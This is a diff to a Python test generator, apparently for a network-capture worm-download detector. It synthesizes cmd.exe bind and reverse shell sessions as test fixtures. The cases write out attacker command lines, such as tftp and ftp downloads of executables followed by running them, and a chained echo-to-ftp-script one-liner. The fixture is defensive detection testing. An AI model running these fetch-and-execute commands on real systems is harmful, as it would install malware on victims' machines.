@@ -48,6 +48,12 @@ def escape(s):
     return "".join(out)
 
 
+def name_usable(name):
+    """What the fetcher accepts: 1..255 bytes, no control byte."""
+    raw = name.encode("latin-1")
+    return 0 < len(raw) <= 255 and all(b >= 0x20 and b != 0x7f for b in raw)
+
+
 def payload(name, size):
     """A harmless, recognisable file of the given size."""
     seed = ("WORMSNARE-TEST-PAYLOAD %s " % name).encode()
@@ -69,6 +75,10 @@ class Capture:
     def expect(self, t, sess, action, file, server=""):
         self.events.append((t, sess.cli, sess.cport, sess.srv, sess.sport, action, file, server))
 
+    def expect_at(self, t, attacker, aport, victim, vport, action, file, server=""):
+        """An event whose SourceIP/Port is the attacker, whichever side opened."""
+        self.events.append((t, attacker, aport, victim, vport, action, file, server))
+
     def sorted_pkts(self):
         return sorted(self.pkts, key=lambda p: float(p.time))
 
@@ -76,7 +86,9 @@ class Capture:
         rows = [HEADER]
         for i, (t, src, sport, dst, dport, action, file, server) in enumerate(
                 sorted(self.events, key=lambda e: e[0]), 1):
-            fetch = "disabled" if action == "get" else ""
+            fetch = ""
+            if action in ("get", "ftp-get"):
+                fetch = "disabled" if name_usable(file) else "invalid-name"
             rows.append("\t".join([str(i), iso(t), src, escape(file), str(sport), dst,
                                    str(dport), action, escape(server), fetch]))
         return "\n".join(rows) + "\n"
@@ -518,6 +530,220 @@ def case_tftp_variants():
     return cap
 
 
+# --------------------------------------------------------- shells (issue 11)
+
+PROMPT = b"\r\nC:\\WINDOWS\\system32>"
+
+
+class Shell:
+    """A cmd.exe shell over TCP on any port, bind or reverse.
+
+    The attacker types lines; the victim prints the banner, then after each
+    line the echo cmd.exe gives a piped stdin (the command again), its
+    output and a prompt. reverse=True: the victim opened the connection (a
+    reverse shell), so the TCP client is the victim. Events are expected
+    with SourceIP/Port = attacker, DestIP/Port = victim either way.
+    """
+
+    def __init__(self, cap, attacker=ATTACKER, aport=1234, victim=VICTIM, vport=4444,
+                 reverse=False, t=T0, aisn=7000000, visn=9000000):
+        self.cap, self.t = cap, t
+        self.attacker, self.aport, self.victim, self.vport = attacker, aport, victim, vport
+        self.reverse = reverse
+        self.seq = {"a": aisn + 1, "v": visn + 1}
+        self.isn = {"a": aisn, "v": visn}
+        self.ipid = {"a": 300, "v": 7000}
+
+    def tick(self, dt=0.01):
+        self.t += dt
+        return self.t
+
+    def _seg(self, who, flags, data=b"", seq=None):
+        other = "v" if who == "a" else "a"
+        src, sport = (self.attacker, self.aport) if who == "a" else (self.victim, self.vport)
+        dst, dport = (self.victim, self.vport) if who == "a" else (self.attacker, self.aport)
+        self.ipid[who] += 1
+        tcp = TCP(sport=sport, dport=dport, flags=flags,
+                  seq=seq if seq is not None else self.seq[who],
+                  ack=0 if flags == "S" else self.seq[other], window=64240)
+        pkt = IP(src=src, dst=dst, id=self.ipid[who], ttl=113 if who == "a" else 128) / tcp
+        if data:
+            pkt = pkt / Raw(data)
+        self.cap.add(Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66") / pkt, self.tick())
+
+    def open(self):
+        opener, other = ("v", "a") if self.reverse else ("a", "v")
+        self._seg(opener, "S", seq=self.isn[opener])
+        self._seg(other, "SA", seq=self.isn[other])
+        self._seg(opener, "A")
+
+    def data(self, who, data, chunk=None):
+        data = data.encode("latin-1") if isinstance(data, str) else data
+        chunk = chunk or len(data)
+        for i in range(0, len(data), chunk):
+            part = data[i:i + chunk]
+            self._seg(who, "PA", part)
+            self.seq[who] += len(part)
+        self._seg("v" if who == "a" else "a", "A")
+        return self.t
+
+    def victim_says(self, data):
+        return self.data("v", data)
+
+    def type(self, line, events=(), output=b"", chunk=None, echo=True, prompt=PROMPT):
+        """The attacker types line + LF; events [(action, file, server)] at its last segment."""
+        raw = line.encode("latin-1") if isinstance(line, str) else line
+        data = raw + b"\n"
+        chunk = chunk or len(data)
+        for i in range(0, len(data), chunk):
+            part = data[i:i + chunk]
+            self._seg("a", "PA", part)
+            self.seq["a"] += len(part)
+        t = self.t
+        for action, file, *server in events:
+            self.cap.expect_at(t, self.attacker, self.aport, self.victim, self.vport, action,
+                               file, server[0] if server else "")
+        reply = (raw + b"\r\n" if echo else b"") + output + (prompt or b"")
+        if reply:
+            self.victim_says(reply)
+        return t
+
+    def close(self):
+        closer, other = ("a", "v")
+        self._seg(closer, "FA")
+        self.seq[closer] += 1
+        self._seg(other, "FA")
+        self.seq[other] += 1
+        self._seg(closer, "A")
+
+
+def stage_bytes(n):
+    """Deterministic bytes standing for a stager's stage (not code: a counter hash)."""
+    return bytes(hashlib.sha256(b"stage%d" % i).digest()[0] for i in range(n))
+
+
+def case_shell_reverse():
+    """The victim connects out to the attacker's 1225; the attacker uses ftp -A."""
+    cap = Capture()
+    sh = Shell(cap, aport=1225, vport=1042, reverse=True)
+    sh.open()
+    sh.victim_says(BANNER)
+    sh.type("ftp -A 192.168.1.10", output=b"Connected to 192.168.1.10.\r\n220 FTP ready\r\n"
+            b"331 Anonymous access allowed.\r\n230 Logged in.\r\nftp> ", prompt=None)
+    sh.type("get sqlite3.exe", [("ftp-get", "sqlite3.exe", "192.168.1.10")], echo=False,
+            output=b"200 PORT command successful.\r\n150 Opening BINARY mode data connection.\r\n"
+            b"226 Transfer complete.\r\nftp: 455168 bytes received\r\nftp> ", prompt=None)
+    sh.type("bye", echo=False, output=b"221 Goodbye.\r\n")
+    sh.type('sqlite3 db "select 1"', [("exec", "sqlite3")], output=b"1\r\n")
+    sh.close()
+    return cap
+
+
+def case_shell_port_banner():
+    """A bind shell on 9988, found by its banner; one name is unusable."""
+    cap = Capture()
+    sh = Shell(cap, aport=1300, vport=9988)
+    sh.open()
+    sh.victim_says(BANNER)
+    sh.type("tftp -i 81.132.114.254 GET svc.exe", [("get", "svc.exe", ATTACKER)],
+            output=b"Transfer successful: 6176 bytes in 1 second, 6176 bytes/s\r\n")
+    sh.type("start svc.exe", [("start", "svc.exe")])
+    sh.type("tftp -i 81.132.114.254 GET bad\x01name.exe", [("get", "bad\x01name.exe", ATTACKER)],
+            output=b"Error on server : File not found\r\n")
+    sh.close()
+    return cap
+
+
+def case_shell_midstream_prompt():
+    """Picked up mid-stream on 5555: the first bytes seen end in the victim's prompt."""
+    cap = Capture()
+    sh = Shell(cap, aport=1350, vport=5555)
+    sh.seq["a"] += 120          # no handshake, no banner: both sides already talked
+    sh.seq["v"] += 800
+    sh.victim_says(b" Volume in drive C has no label.\r\n Volume Serial Number is 98E6-D565\r\n"
+                   b"\r\n Directory of C:\\WINDOWS\\system32\r\n\r\n" + PROMPT)
+    sh.type("tftp -i 81.132.114.254 GET mid.exe", [("get", "mid.exe", ATTACKER)],
+            output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
+    sh.type("mid.exe", [("exec", "mid.exe")])
+    sh.close()
+    return cap
+
+
+def case_shell_ftp_echo():
+    """The forensic-challenge bot on 1957: a shell that prints two newlines, an echo script."""
+    cap = Capture()
+    sh = Shell(cap, aport=1400, vport=1957)
+    sh.open()
+    sh.victim_says(b"\n\n")
+    sh.type("echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o &"
+            "echo quit >> o &ftp -n -s:o &del /F /Q o &ssms.exe",
+            [("ftp-get", "ssms.exe", "0.0.0.0:8884"), ("exec", "ssms.exe")],
+            echo=False, prompt=None)
+    sh.close()
+    return cap
+
+
+def case_shell_ftp_interactive():
+    """Typed into ftp.exe: login prompts, get with a local name, then open HOST PORT."""
+    cap = Capture()
+    sh = Shell(cap, aport=1500, vport=4444)
+    sh.open()
+    sh.victim_says(BANNER)
+    sh.type("ftp 5.6.7.8", output=b"Connected to 5.6.7.8.\r\n220 FTP ready\r\nUser (5.6.7.8:(none)): ",
+            prompt=None)
+    sh.type("bob", echo=False, output=b"\r\n331 Password required for bob.\r\nPassword:", prompt=None)
+    sh.type("secret", echo=False, output=b"\r\n230 User bob logged in.\r\nftp> ", prompt=None)
+    sh.type("bin", echo=False, output=b"200 Type set to I.\r\nftp> ", prompt=None)
+    sh.type("get a.exe c:\\a.exe", [("ftp-get", "a.exe", "5.6.7.8")], echo=False,
+            output=b"226 Transfer complete.\r\nftp> ", prompt=None)
+    sh.type("quit", echo=False, output=b"221 Goodbye.\r\n")
+    sh.type("c:\\a.exe", [("exec", "c:\\a.exe")])
+    sh.type("ftp", output=b"ftp> ", prompt=None)
+    sh.type("open 5.6.7.9 2121", echo=False,
+            output=b"Connected to 5.6.7.9.\r\n220 FTP ready\r\nUser (5.6.7.9:(none)): ", prompt=None)
+    sh.type("u", echo=False, output=b"\r\n331 Password required.\r\nPassword:", prompt=None)
+    sh.type("p", echo=False, output=b"\r\n230 Logged in.\r\nftp> ", prompt=None)
+    sh.type("get b.exe", [("ftp-get", "b.exe", "5.6.7.9:2121")], echo=False,
+            output=b"226 Transfer complete.\r\nftp> ", prompt=None)
+    sh.type("bye", echo=False, output=b"221 Goodbye.\r\n")
+    sh.close()
+    return cap
+
+
+def case_shell_long_line():
+    """A 5000-byte line, then a 9000-byte one (cmd.exe reads 8191: KB830473)."""
+    cap = Capture()
+    sh = Shell(cap, aport=1600, vport=4444)
+    sh.open()
+    sh.victim_says(BANNER)
+    tail = " & tftp -i 81.132.114.254 GET five.exe"
+    line = "echo " + "x" * (5000 - 5 - len(tail)) + tail
+    assert len(line) == 5000
+    sh.type(line, [("get", "five.exe", ATTACKER)], chunk=1400)
+    cmd = "tftp -i 81.132.114.254 GET cut.exe"
+    line = " " * 8000 + cmd + " " * (9000 - 8000 - len(cmd))
+    sh.type(line, [("get", "cut.exe", ATTACKER)], chunk=1400)   # the first 8191 bytes run
+    sh.type("start five.exe", [("start", "five.exe")])
+    sh.close()
+    return cap
+
+
+def case_shell_stager():
+    """A Metasploit-style reverse shell on 4321: the stage, then the banner."""
+    cap = Capture()
+    sh = Shell(cap, aport=4321, vport=1032, reverse=True)
+    sh.open()
+    stage = stage_bytes(240)
+    sh.data("a", len(stage).to_bytes(4, "little"))
+    sh.data("a", stage)
+    sh.victim_says(BANNER)
+    sh.type("tftp -i 81.132.114.254 GET stage2.exe", [("get", "stage2.exe", ATTACKER)],
+            output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
+    sh.type("stage2.exe", [("exec", "stage2.exe")])
+    sh.close()
+    return cap
+
+
 def cooked(p):
     return CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6, src=b"\x00\x0c\x29\x11\x22\x33",
                        proto=0x0800) / p
@@ -547,6 +773,13 @@ CASES = {
     "overlong": case_overlong,
     "hostile-names": case_hostile_names,
     "tftp-variants": case_tftp_variants,
+    "shell-reverse": case_shell_reverse,
+    "shell-port-banner": case_shell_port_banner,
+    "shell-midstream-prompt": case_shell_midstream_prompt,
+    "shell-ftp-echo": case_shell_ftp_echo,
+    "shell-ftp-interactive": case_shell_ftp_interactive,
+    "shell-long-line": case_shell_long_line,
+    "shell-stager": case_shell_stager,
 }
 
 
